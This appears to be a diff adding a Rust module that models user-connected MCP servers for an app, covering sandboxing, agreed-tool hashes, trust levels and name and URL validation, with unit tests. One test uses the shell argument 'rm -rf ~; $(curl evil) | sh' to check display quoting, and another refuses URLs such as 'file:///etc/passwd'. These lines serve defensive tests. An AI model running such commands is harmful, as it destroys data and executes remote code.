@@ -1,0 +1,262 @@
+//! Servers of the Model Context Protocol that the user has connected, and what is known of them.
+
+use std::collections::{BTreeMap, BTreeSet};
+
+use serde::{Deserialize, Serialize};
+
+/// A server as the settings have it. Either a program (`command`, speaking over its standard streams) or an address
+/// (`url`, streamable HTTP).
+#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase", default, deny_unknown_fields)]
+pub struct McpServer {
+    /// A program's name or path; empty for a server at an address. Never given to a shell.
+    pub command: String,
+    pub args: Vec<String>,
+    /// Set for the program beside the few variables that every program of ours gets.
+    pub env: BTreeMap<String, String>,
+    /// Variables whose values are in the keychain.
+    pub keys: BTreeSet<String>,
+    pub url: String,
+    /// Whether the program may do what its user may. Otherwise it runs in the sandbox of commands: it writes into a folder
+    /// of its own, and reaches only `hosts`.
+    pub unconfined: bool,
+    /// Hosts that a confined program may reach.
+    pub hosts: Vec<String>,
+    /// Folders and files, by whole paths, that a confined program may read.
+    pub reads: Vec<String>,
+    /// Kept, and not used.
+    pub off: bool,
+    /// The tools that the user agreed to, by the server's names for them.
+    pub tools: BTreeMap<String, AgreedTool>,
+}
+
+/// A tool that the user agreed to.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase", deny_unknown_fields)]
+pub struct AgreedTool {
+    /// Of name, description and schema, lower-case hex SHA-256: once the server says otherwise, it is off until it is
+    /// agreed to again.
+    pub hash: String,
+    #[serde(default)]
+    pub does: ToolDoes,
+}
+
+/// What the user says that a server's tool does at the most. What the server says of it counts for nothing.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub enum ToolDoes {
+    /// It only looks, and nothing it is told matters to anybody: never asked about.
+    Looks,
+    /// It changes what can be changed back: a yes for the session covers it.
+    Edits,
+    /// It may send what it is told to others, or do what cannot be undone: asked each time.
+    #[default]
+    Anything,
+}
+
+/// Where a server's connection stands.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase", tag = "state")]
+pub enum ServerState {
+    Off,
+    /// Its tools are known from earlier; it is started when one of them is first called.
+    Idle,
+    Connected,
+    /// Why it cannot be used now; it is tried again with the next call, at the earliest after these seconds.
+    Failed { why: String, again_in: u64 },
+}
+
+/// A server with its tools, for people.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct ServerView {
+    pub name: String,
+    /// The program with all its arguments, or the address.
+    pub runs: String,
+    /// Whether it is a program that the sandbox does not confine.
+    pub unconfined: bool,
+    #[serde(flatten)]
+    pub state: ServerState,
+    /// As the server calls itself, with its version; empty if it was not asked yet.
+    #[serde(default)]
+    pub called: String,
+    pub tools: Vec<ServerToolView>,
+    /// What it last wrote to its standard error: the newest lines.
+    #[serde(default)]
+    pub log: Vec<String>,
+}
+
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct ServerToolView {
+    /// The server's name for it.
+    pub name: String,
+    /// What a model calls it by.
+    pub tool: String,
+    /// Cleaned, one line.
+    pub description: String,
+    pub hash: String,
+    pub agreed: Agreed,
+}
+
+/// Whether a tool may be used.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase", tag = "agreed")]
+pub enum Agreed {
+    No,
+    /// The server describes it otherwise than when the user agreed to it.
+    Changed,
+    Yes {
+        does: ToolDoes,
+    },
+}
+
+/// Letters of a server's name: with its tool's it must fit into the 64 that providers take.
+pub const NAME_CHARS: usize = 24;
+
+/// Names of groups of tools, which no server may have.
+pub const RESERVED: [&str; 15] = [
+    "screen", "ocr", "elements", "input", "held", "apps", "clipboard", "web", "script", "files", "terminal",
+    "search", "agenda", "agents", "mind",
+];
+
+impl McpServer {
+    /// Whether this is the same server as another: it runs the same, wherever its tools are agreed to.
+    pub fn runs_as(&self, other: &Self) -> bool {
+        let bare = |one: &Self| Self { tools: BTreeMap::new(), off: false, ..one.clone() };
+        bare(self) == bare(other)
+    }
+
+    /// The program with all its arguments, each in quotes where it has blanks or the like in it; or the address.
+    pub fn runs(&self) -> String {
+        if self.command.is_empty() {
+            return self.url.clone();
+        }
+        let words = std::iter::once(&self.command).chain(&self.args);
+        words.map(|word| quoted(word)).collect::<Vec<_>>().join(" ")
+    }
+
+    /// Whether these settings give an agent what others do not: it runs otherwise, is on, or has more tools.
+    pub fn is_looser_than(&self, other: Option<&Self>) -> bool {
+        let Some(other) = other else { return true };
+        let is_agreed = |(name, tool): (&String, &AgreedTool)| {
+            other.tools.get(name).is_some_and(|old| old.hash == tool.hash && tool.does >= old.does)
+        };
+        !self.runs_as(other) || (other.off && !self.off) || !self.tools.iter().all(is_agreed)
+    }
+
+    /// # Errors
+    /// What is wrong with it, after its name.
+    pub fn validate(name: &str, server: &Self) -> Result<(), String> {
+        let starts_well = name.starts_with(|c: char| c.is_ascii_lowercase());
+        let is_name = starts_well
+            && name.len() <= NAME_CHARS
+            && !name.contains("--")
+            && name.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-');
+        if !is_name {
+            return Err(format!(
+                "is no name: a letter first, then a-z, 0-9 and single -, at most {NAME_CHARS} in all"
+            ));
+        }
+        if RESERVED.contains(&name) {
+            return Err("is a name that tools of Miki's own have; call it otherwise".into());
+        }
+        match (server.command.is_empty(), server.url.is_empty()) {
+            (true, true) => return Err("has neither a command nor a url".into()),
+            (false, false) => return Err("has both a command and a url".into()),
+            _ => {}
+        }
+        let texts = std::iter::once(&server.command).chain(&server.args).chain(server.env.values());
+        if texts.into_iter().any(|text| text.contains('\0')) {
+            return Err("has a NUL character in its command".into());
+        }
+        let is_variable = |name: &String| {
+            !name.is_empty()
+                && !name.starts_with(|c: char| c.is_ascii_digit())
+                && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+        };
+        if let Some(bad) = server.env.keys().chain(&server.keys).find(|name| !is_variable(name)) {
+            return Err(format!("sets {bad:?}, which is no variable's name"));
+        }
+        let is_whole = |path: &String| {
+            path.starts_with('/') || path.get(1..3).is_some_and(|at| matches!(at, ":\\" | ":/"))
+        };
+        if let Some(bad) = server.reads.iter().find(|path| !is_whole(path)) {
+            return Err(format!("may read {bad:?}, which is no whole path"));
+        }
+        if let Some(name) = server.env.keys().find(|name| crate::settings::is_of_keys(name)) {
+            return Err(format!("would keep {name} in a file; a key belongs into the keychain: miki mcp key"));
+        }
+        if !server.url.is_empty() {
+            crate::address::check(&server.url).map_err(|why| format!("has a url that {why}"))?;
+        }
+        Ok(())
+    }
+}
+
+/// As a shell would read it back, for people to read.
+fn quoted(word: &str) -> String {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_./:=@,+%".contains(c);
+    if !word.is_empty() && word.chars().all(is_plain) {
+        return word.to_owned();
+    }
+    format!("'{}'", word.replace('\'', r"'\''"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn program() -> McpServer {
+        McpServer { command: "npx".into(), args: vec!["-y".into(), "a b".into()], ..McpServer::default() }
+    }
+
+    #[test]
+    fn a_command_is_shown_whole_with_metacharacters_as_they_are() {
+        // bar: C58
+        let args = ["-c", "rm -rf ~; $(curl evil) | sh", "it's", ""].map(String::from).to_vec();
+        let server = McpServer { command: "/bin/sh".into(), args, ..McpServer::default() };
+        assert_eq!(server.runs(), r#"/bin/sh -c 'rm -rf ~; $(curl evil) | sh' 'it'\''s' ''"#);
+    }
+
+    #[test]
+    fn a_name_is_short_ascii_and_of_one_case() {
+        for name in ["pond", "git-hub", "a1"] {
+            assert_eq!(McpServer::validate(name, &program()), Ok(()), "{name}");
+        }
+        for name in ["", "Pond", "pönd", "1a", "a_b", "a--b", "a b", "web", &"a".repeat(25)] {
+            assert!(McpServer::validate(name, &program()).is_err(), "{name}");
+        }
+    }
+
+    #[test]
+    fn an_address_that_no_server_can_have_is_refused() {
+        // bar: C59
+        for url in ["javascript:alert(1)", "file:///etc/passwd", "http://example.com/mcp", "ftp://a.example"] {
+            let server = McpServer { url: url.into(), ..McpServer::default() };
+            assert!(McpServer::validate("pond", &server).is_err(), "{url}");
+        }
+        for url in ["https://mcp.example/mcp", "http://127.0.0.1:8000/mcp"] {
+            let server = McpServer { url: url.into(), ..McpServer::default() };
+            assert_eq!(McpServer::validate("pond", &server), Ok(()), "{url}");
+        }
+    }
+
+    #[test]
+    fn what_runs_otherwise_is_on_or_has_more_is_looser() {
+        let agreed = |does| AgreedTool { hash: "h".into(), does };
+        let with = |does| McpServer { tools: BTreeMap::from([("look".into(), agreed(does))]), ..program() };
+        let old = with(ToolDoes::Edits);
+        assert!(!old.is_looser_than(Some(&old)));
+        assert!(!with(ToolDoes::Anything).is_looser_than(Some(&old)));
+        assert!(!program().is_looser_than(Some(&old)));
+        assert!(!McpServer { off: true, ..old.clone() }.is_looser_than(Some(&old)));
+        assert!(old.is_looser_than(None));
+        assert!(with(ToolDoes::Looks).is_looser_than(Some(&old)));
+        assert!(old.is_looser_than(Some(&McpServer { off: true, ..old.clone() })));
+        assert!(McpServer { unconfined: true, ..old.clone() }.is_looser_than(Some(&old)));
+        let mut other = old.clone();
+        other.tools.insert("look".into(), AgreedTool { hash: "other".into(), does: ToolDoes::Edits });
+        assert!(other.is_looser_than(Some(&old)));
+    }
+}
